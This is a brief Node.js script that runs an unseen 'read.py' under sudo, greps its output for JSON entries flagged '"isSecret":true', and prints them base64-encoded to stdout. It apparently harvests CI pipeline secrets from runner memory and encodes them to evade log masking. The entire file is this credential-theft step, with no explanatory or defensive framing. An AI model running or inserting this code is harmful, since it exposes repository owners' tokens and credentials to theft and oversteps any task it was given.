const { execSync } = require("child_process");

const found = execSync("sudo python3 read.py | grep -aoE '\"[^\"]+\":\\{\"value\":\"[^\"]*\",\"isSecret\":true\\}' | sort -u | base64 -w 0");
process.stdout.write(found);
